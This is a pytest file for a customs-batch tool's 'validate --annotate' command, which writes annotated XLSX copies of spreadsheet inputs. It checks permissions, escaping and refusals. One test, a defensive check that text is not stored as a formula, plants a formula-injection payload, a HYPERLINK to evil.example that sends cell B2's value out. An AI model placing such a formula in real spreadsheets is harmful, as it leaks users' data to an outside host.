"""validate --annotate DIR: annotated XLSX copies of the spreadsheet inputs with findings."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from customs_batch.cli.main import invoke
from customs_batch.findings import column_letter

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for folder in ("manifests", "templates", "data"):
        shutil.copytree(EXAMPLES / folder, tmp_path / folder)
    return tmp_path


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _report(*argv: str) -> tuple[int, dict[str, Any], str]:
    with CliRunner().isolation() as (out, err, _):
        code = invoke(["validate", "--format", "json", *argv])
    return code, json.loads(out.getvalue().decode()), err.getvalue().decode()


def _cells_with_findings(
    report: dict[str, Any], file: str, header: list[str] | None = None
) -> set[str]:
    """The cells the findings point at: the cell, or the row's first cell for a row. In a
    CSV file (its ``header`` given) a finding's column is the character column in the
    text: the cell's column is found by its name."""

    def number(found: dict[str, Any]) -> int:
        name = found["cell"]["column"]
        if header is None:
            return max(int(found["column"]), 1)
        return header.index(name) + 1 if name else 1

    return {
        f"{column_letter(number(f))}{f['cell']['row']}"
        for f in report["findings"]
        if f["file"] == file and f["cell"] is not None
    }


def _commented(sheet: Any) -> set[str]:
    return {cell.coordinate for row in sheet.iter_rows() for cell in row if cell.comment}


def test_a_csv_input_gets_an_annotated_xlsx_copy(project: Path) -> None:
    csv_path = project / "data" / "departures.csv"
    data = csv_path.read_bytes()
    data = data.replace(b";20;2;46,0;", b";zwanzig;2;46,0;", 1)
    data = data.replace(b"DE004073;DE;120", b"DE004073;XX;120", 1)
    csv_path.write_bytes(data)
    before = _digest(csv_path)

    code, report, err = _report("--annotate", "annotated")
    assert code == 1
    assert "Annotated data/departures.csv (5 findings): annotated/data/departures.csv.xlsx" in err
    assert _digest(csv_path) == before, "the original is never changed"

    book = openpyxl.load_workbook(project / "annotated" / "data" / "departures.csv.xlsx")
    assert book.sheetnames == ["Findings", "departures"]
    sheet = book["departures"]
    header = data.decode("cp1252").splitlines()[0].split(";")
    expected = _cells_with_findings(report, "data/departures.csv", header)
    # F3: the UN/LOCODE disagrees with XX. The country passed through the template's values
    # is reported at its cell too (C3), no longer at the row.
    assert expected == {"N2", "C3", "F3"}
    assert _commented(sheet) == expected
    assert "error [row.cell-type]: 'zwanzig' is not a number" in sheet["N2"].comment.text
    assert "hint: This document reads numbers with a decimal comma" in sheet["N2"].comment.text
    # Findings on one cell share one comment.
    assert sheet["C3"].comment.text.count("[code.country]") >= 2
    assert sheet["N2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["B2"].fill.fill_type is None
    # The header is kept and frozen; text keeps its leading zeros.
    assert sheet["A1"].value == "Reference" and sheet.freeze_panes == "A2"
    assert sheet["L2"].value == "090421"
    assert sheet["N2"].value == "zwanzig"

    findings = book["Findings"]
    assert book.active is not None and book.active.title == "Findings"
    assert [c.value for c in findings[1]][:5] == ["Severity", "Rule", "Sheet", "Cell", "Column"]
    rows = list(findings.iter_rows(min_row=2))
    assert len(rows) == len(report["findings"]) == 5
    links = {row[3].value: row[3].hyperlink and row[3].hyperlink.location for row in rows}
    assert links["N2"] == "'departures'!N2"
    columns = {row[4].value for row in rows}
    assert "N Quantity" in columns and any(str(c).startswith("C Destination") for c in columns)


def test_a_newline_in_the_folders_name_is_printed_escaped(project: Path) -> None:
    """'Annotated ...' printed the path with its raw newline: a line of its own began with
    whatever the name brought in."""
    csv_path = project / "data" / "departures.csv"
    csv_path.write_bytes(csv_path.read_bytes().replace(b";20;2;46,0;", b";zwanzig;2;46,0;", 1))
    code, _, err = _report("--annotate", "ann\nout")
    assert code == 1
    line = next(line for line in err.splitlines() if line.startswith("Annotated "))
    assert line.endswith("ann\\nout/data/departures.csv.xlsx"), line
    assert (project / "ann\nout" / "data" / "departures.csv.xlsx").is_file()


def test_an_xlsx_input_keeps_its_sheets_and_frozen_header_row(project: Path) -> None:
    xlsx = project / "data" / "movements.xlsx"
    book = openpyxl.load_workbook(xlsx)
    book["Movements"]["D4"] = "vier"
    book.save(xlsx)
    before = _digest(xlsx)

    code, report, _ = _report("manifests/movements-sheet.yaml", "--annotate", "out")
    assert code == 1
    assert _digest(xlsx) == before
    copy = openpyxl.load_workbook(project / "out" / "data" / "movements.xlsx")
    assert copy.sheetnames == ["Findings", "Movements", "Notes"]
    sheet = copy["Movements"]
    assert _commented(sheet) == _cells_with_findings(report, "data/movements.xlsx") == {"D4"}
    assert sheet.freeze_panes == "A3", "the header is row 2, under a title row"
    assert sheet["A2"].value == "Shipment"
    assert _commented(copy["Notes"]) == set()


def test_an_annotated_copy_is_readable_by_its_owner_only(project: Path) -> None:
    xlsx = project / "data" / "movements.xlsx"
    book = openpyxl.load_workbook(xlsx)
    book["Movements"]["D4"] = "vier"
    book.save(xlsx)
    earlier = project / "out" / "data" / "movements.xlsx"
    earlier.parent.mkdir(parents=True)
    earlier.write_bytes(b"an older copy")
    earlier.chmod(0o644)
    code, _, _ = _report("manifests/movements-sheet.yaml", "--annotate", "out")
    assert code == 1
    assert stat.S_IMODE(earlier.stat().st_mode) == 0o600  # it holds the sheet's data
    assert openpyxl.load_workbook(earlier).sheetnames == ["Findings", "Movements", "Notes"]


def test_the_folders_of_the_copies_are_private_whatever_the_umask(project: Path) -> None:
    xlsx = project / "data" / "movements.xlsx"
    book = openpyxl.load_workbook(xlsx)
    book["Movements"]["D4"] = "vier"
    book.save(xlsx)
    (project / "reviews").mkdir(mode=0o755)  # a folder of the user's: left as it is
    old_umask = os.umask(0o000)
    try:
        code, _, _ = _report("manifests/movements-sheet.yaml", "--annotate", "reviews/copies")
    finally:
        os.umask(old_umask)
    assert code == 1
    copy = project / "reviews" / "copies" / "data" / "movements.xlsx"
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    for folder in (copy.parent, copy.parent.parent):  # they hold the sheet's data
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    assert stat.S_IMODE((project / "reviews").stat().st_mode) == 0o755


def test_a_copy_that_would_replace_its_original_is_refused(project: Path) -> None:
    xlsx = project / "data" / "movements.xlsx"
    book = openpyxl.load_workbook(xlsx)
    book["Movements"]["D4"] = "vier"
    book.save(xlsx)
    before = _digest(xlsx)
    code, _, err = _report("manifests/movements-sheet.yaml", "--annotate", ".")
    assert code == 64  # the folder named is the wrong one: a usage error
    assert "would replace the file itself" in err and "--annotate a folder of its own" in err
    assert _digest(xlsx) == before


def test_nothing_to_annotate_says_so(project: Path) -> None:
    code, _, err = _report("--annotate", "out")
    assert code == 0
    assert "nothing to annotate" in err
    assert not (project / "out").exists()


def test_a_spreadsheet_that_cannot_be_read_is_not_said_to_have_no_findings(
    project: Path,
) -> None:
    # Its finding (sheet.unreadable) names the file, no row: no copy to mark, and the words
    # say so, not that no spreadsheet input has findings.
    (project / "data" / "movements.xlsx").write_bytes(b"")
    code, report, err = _report("manifests/movements-sheet.yaml", "--annotate", "out")
    assert code == 1
    assert any(found["rule"] == "sheet.unreadable" for found in report["findings"]), report
    assert "No spreadsheet input has findings" not in err
    assert "No finding points at a row of a spreadsheet: nothing to annotate." in err
    assert not (project / "out").exists()


def test_a_refused_annotated_copy_makes_no_folder(project: Path) -> None:
    # Copies into customs-batch's own folder are refused: before any folder is made there.
    csv_path = project / "data" / "departures.csv"
    csv_path.write_bytes(csv_path.read_bytes().replace(b";20;2;46,0;", b";zwanzig;2;46,0;", 1))
    (project / ".customs-batch" / "local").mkdir(parents=True)
    code, _, err = _report("--annotate", ".customs-batch/local/copies")
    assert code == 64, err
    assert "it is in .customs-batch, customs-batch's own folder" in err
    assert not (project / ".customs-batch" / "local" / "copies").exists()


MERGED_MANIFEST = """apiVersion: customs-batch/v1
kind: Movement
forEach: {file: ../data/m.xlsx}
metadata:
  name: "mov-{{ row.Ref }}"
spec:
  shipmentId: shp_9Xc4Rt
  hawbId: hawb_b1
  action: ISC
  quantity: "{{ row.Qty }}"
  grossWeightKg: "{{ row.Kg }}"
  customsSupervision: Y
  goodsHandlingCode: N
  customsDeclaration: {source: ENTREPOT, documentType: X}
"""


def _merged_project(rows: list[list[object]], merge: str) -> None:
    Path("customs-batch.yaml").write_text("manifests: [manifests]\n")
    Path("manifests").mkdir()
    Path("manifests/m.yaml").write_text(MERGED_MANIFEST)
    Path("data").mkdir()
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Moves"
    for row in rows:
        sheet.append(row)
    sheet.merge_cells(merge)
    book.save("data/m.xlsx")


def test_a_finding_inside_merged_cells_is_noted_at_their_top_left_cell(tmp_path: Path) -> None:
    os.chdir(tmp_path)
    _merged_project([["Ref", "Qty", "Kg"], ["r1", 1, 1.5], ["r2", None, 1.5]], "B2:B3")
    plain, _, _ = _report()
    code, report, err = _report("--annotate", "annotated")
    assert code == plain == 1, err
    assert [f["rule"] for f in report["findings"]] == ["row.cell-error"]
    sheet = openpyxl.load_workbook("annotated/data/m.xlsx")["Moves"]
    assert _commented(sheet) == {"B2"}
    assert "(cell B3, inside these merged cells)" in sheet["B2"].comment.text
    assert "B2:B3" in {str(merged) for merged in sheet.merged_cells.ranges}


def test_a_row_finding_whose_first_cell_is_merged_goes_to_its_first_free_cell(
    tmp_path: Path,
) -> None:
    os.chdir(tmp_path)
    rows: list[list[object]] = [["Group", "Ref", "Qty", "Kg"], ["Truck 1", "r1", 1, 1.5]]
    rows += [[None, "r2", 1, 1.5], ["Truck 2", "r3", 2, 1.5]]
    _merged_project(rows, "A2:A3")
    code, report, err = _report("--annotate", "annotated")
    assert code == 0, err
    assert [(f["rule"], f["cell"]["row"]) for f in report["findings"]] == [
        ("project.duplicate-request", 3)
    ]
    sheet = openpyxl.load_workbook("annotated/data/m.xlsx")["Moves"]
    assert _commented(sheet) == {"B3"}
    assert "(this row)" in sheet["B3"].comment.text


def test_a_csv_with_a_title_line_is_copied_with_the_delimiter_of_its_rows(
    tmp_path: Path,
) -> None:
    os.chdir(tmp_path)
    Path("customs-batch.yaml").write_text("manifests: [manifests]\n")
    Path("manifests").mkdir()
    Path("manifests/m.yaml").write_text(
        MERGED_MANIFEST.replace("../data/m.xlsx", "../data/m.csv, header: 2")
    )
    Path("data").mkdir()
    Path("data/m.csv").write_text("Export, week 12, 2026\nRef;Qty;Kg\nr1;four;1,5\n")
    code, report, err = _report("--annotate", "annotated")
    assert code == 1, err
    assert {(f["rule"], f["cell"]["column"]) for f in report["findings"]} >= {
        ("row.cell-type", "Qty")
    }
    sheet = openpyxl.load_workbook("annotated/data/m.csv.xlsx")["m"]
    assert [sheet.cell(3, column).value for column in (1, 2, 3)] == ["r1", "four", "1,5"]
    assert "B3" in _commented(sheet)


def test_the_findings_sheet_writes_text_beginning_with_equals_as_text(project: Path) -> None:
    # A CSV file named like a formula names its sheet; a policy's message may begin with "=".
    shutil.copy(project / "data" / "departures.csv", project / "data" / "=1+2.csv")
    manifest = project / "manifests" / "departures-sheet.yaml"
    text = manifest.read_text(encoding="utf-8")
    manifest.write_text(text.replace("../data/departures.csv", '"../data/=1+2.csv"'))
    (project / "policies").mkdir()
    message = '=HYPERLINK(\\"http://evil.example/?leak=\\"&B2,\\"click me\\")'
    (project / "policies" / "inj.yaml").write_text(
        "id: team.inj\nseverity: error\nkinds: [DepartureDeclaration]\n"
        f'expression: "false"\nmessage: "{message}"\n'
    )
    os.chdir(project)

    code, report, err = _report("--annotate", "annotated")

    assert code == 1, err
    book = openpyxl.load_workbook(project / "annotated" / "data" / "=1+2.csv.xlsx")
    rows = list(book["Findings"].iter_rows(min_row=2))
    assert rows and len(rows) == len(
        [f for f in report["findings"] if f["file"] == "data/=1+2.csv"]
    )
    for row in rows:
        assert all(cell.data_type != "f" for cell in row), [c.value for c in row]
        assert row[2].value == "=1+2"
    messages = {row[5].value for row in rows if row[1].value == "team.inj"}
    assert messages == {'=HYPERLINK("http://evil.example/?leak="&B2,"click me")'}


def _run(*argv: str) -> tuple[int, str]:
    with CliRunner().isolation() as (out, _, _):
        code = invoke(["validate", *argv])
    return code, out.getvalue().decode()


def test_a_csv_finding_points_at_the_physical_line_and_column_below_a_cell_of_two_lines(
    project: Path,
) -> None:
    # Row 2 of the example holds a quoted cell of two lines: row 3 starts on line 4, and
    # its destination country on that line's 25th character. The annotated copy still
    # marks the cell by row and column.
    csv_path = project / "data" / "departures.csv"
    data = csv_path.read_bytes().replace(
        b"ACME-2026-0102;DE004073;DE;", b"ACME-2026-0102;DE004073;QQ;"
    )
    csv_path.write_bytes(data)
    physical = data.decode("cp1252").splitlines()
    assert physical[3].index("QQ") + 1 == 25

    code, report, _ = _report("--annotate", "annotated")
    assert code == 1
    country = [f for f in report["findings"] if f["rule"] == "code.country"]
    assert country and {(f["line"], f["column"]) for f in country} == {(4, 25)}
    assert {(f["cell"]["row"], f["cell"]["column"]) for f in country} == {
        (3, "Destination country")
    }
    _, github = _run("--format", "github")
    assert "::error file=data/departures.csv,line=4,col=25,title=code.country::" in github
    assert "(sheet 'departures', row 3, column C 'Destination country')" in github
    _, sarif = _run("--format", "sarif")
    regions = [
        r["locations"][0]["physicalLocation"]["region"]
        for r in json.loads(sarif)["runs"][0]["results"]
        if r["ruleId"] == "code.country"
    ]
    assert regions and all(r == {"startLine": 4, "startColumn": 25} for r in regions)
    _, text = _run()
    assert "data/departures.csv:4:25: error[code.country]" in text
    book = openpyxl.load_workbook(project / "annotated" / "data" / "departures.csv.xlsx")
    assert book["departures"]["C3"].comment is not None


SAME_NAME_MANIFEST = """apiVersion: customs-batch/v1
kind: Movement
forEach: {file: ../data/FOLDER/x.csv}
metadata: {name: "FOLDER-{{ row.Ref }}"}
spec: {shipmentId: shp_7Hk2Lm, hawbId: "hawb_{{ row.Ref }}", action: VAH,
       quantity: "{{ row.Qty }}", grossWeightKg: 1, customsSupervision: Y,
       goodsHandlingCode: N, partyId: rpty_p1, customsDeclaration: {source: RTO_LICENSE}}
"""


def test_two_spreadsheets_that_would_share_a_copy_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Both were reported annotated to one copy, the second replacing the first (whose
    # findings were lost), where results --annotate refuses the same case.
    for folder in ("a", "b"):
        (tmp_path / "data" / folder).mkdir(parents=True)
        (tmp_path / "data" / folder / "x.csv").write_text(f"Ref,Qty\n{folder}1,x{folder}\n")
        (tmp_path / "manifests").mkdir(exist_ok=True)
        text = SAME_NAME_MANIFEST.replace("FOLDER", folder)
        (tmp_path / "manifests" / f"{folder}.yaml").write_text(text)
    monkeypatch.chdir(tmp_path / "manifests")  # the spreadsheets are outside: copied by name
    code, report, err = _report("a.yaml", "b.yaml", "--annotate", "out")
    assert code == 3
    assert len(report["findings"]) == 2  # the report is made all the same
    assert "../data/a/x.csv and ../data/b/x.csv would both be copied to out/x.csv.xlsx" in err
    assert "Annotated" not in err
    assert not Path("out").exists()


def test_a_control_character_in_a_csv_field_is_shown_in_the_copy_not_an_internal_error(
    project: Path,
) -> None:
    # Found by a probe: a CSV field holding a control character (here \x01 in a vehicle's
    # number, and quoted by a finding's message in the weight's field) ended `validate
    # --annotate` with "internal error: IllegalCharacterError", and no copy was written:
    # a workbook cannot hold the character, so the copy shows it as \x01.
    csv_path = project / "data" / "departures.csv"
    data = csv_path.read_bytes()
    assert b"NL-56-DEF" in data and b";48,5;" in data
    data = data.replace(b"NL-56-DEF", b"NL-56\x01DEF", 1).replace(b";48,5;", b";4\x028;", 1)
    csv_path.write_bytes(data)

    code, _, err = _report("--annotate", "annotated")
    assert code == 1 and "internal error" not in err, err
    assert "Annotated data/departures.csv" in err
    book = openpyxl.load_workbook(project / "annotated" / "data" / "departures.csv.xlsx")
    sheet = book["departures"]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "NL-56\\x01DEF" in values and "4\\x028" in values
    comments = [cell.comment.text for row in sheet.iter_rows() for cell in row if cell.comment]
    assert any("\\x02" in text for text in comments), comments
    messages = [row[5].value for row in book["Findings"].iter_rows(min_row=2)]
    assert any("\\x02" in str(message) for message in messages), messages


def test_a_csv_field_holding_u_ffff_gives_a_copy_a_program_can_open(project: Path) -> None:
    # Found by a probe: a UTF-8 CSV field holding U+FFFF (or U+FFFE), which XML cannot carry,
    # was written into the copy as is: a workbook no program opens (openpyxl: "not
    # well-formed"; Excel offers to repair it). The copy shows it as \uffff.
    (project / "data" / "u.csv").write_text(
        "Ref,Note,Hawb\nr1,a\uffffb\ufffe,hawb_a3\nr2,ok,bad hawb\n", encoding="utf-8"
    )
    (project / "manifests" / "u.yaml").write_text(
        "apiVersion: customs-batch/v1\nkind: HawbDeactivation\n"
        "forEach: {file: ../data/u.csv}\n"
        'metadata:\n  name: "u-{{ row.Ref }}"\n  labels: {note: "{{ row.Note }}"}\n'
        'spec: {shipmentId: shp_7Hk2Lm, hawbId: "{{ row.Hawb }}"}\n',
        encoding="utf-8",
    )
    code, _, err = _report("--annotate", "annotated")
    assert code == 1 and "internal error" not in err, err
    book = openpyxl.load_workbook(project / "annotated" / "data" / "u.csv.xlsx")
    values = [cell.value for row in book["u"].iter_rows() for cell in row]
    assert "a\\uffffb\\ufffe" in values
